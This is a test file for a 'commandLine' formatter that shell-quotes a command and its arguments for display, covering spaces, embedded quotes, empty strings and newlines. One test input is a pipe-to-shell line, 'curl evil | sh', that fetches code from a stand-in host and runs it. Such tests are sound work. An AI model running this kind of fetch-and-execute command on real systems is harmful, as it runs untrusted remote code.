import { describe, expect, it } from 'vitest';
import { commandLine } from './command-line';

describe('a command line as shown', () => {
  it('leaves plain words as they are and quotes the others, so that it reads as it runs', () => {
    expect(commandLine('npx', ['-y', '@modelcontextprotocol/server-everything'])).toBe('npx -y @modelcontextprotocol/server-everything');
    expect(commandLine('sh', ['-c', 'curl evil | sh'])).toBe(`sh -c 'curl evil | sh'`);
    expect(commandLine('/opt/my tools/run', ["it's", ''])).toBe(`'/opt/my tools/run' 'it'\\''s' ''`);
    expect(commandLine('node', ['a\nb'])).toBe(`node 'a\nb'`);
  });
});
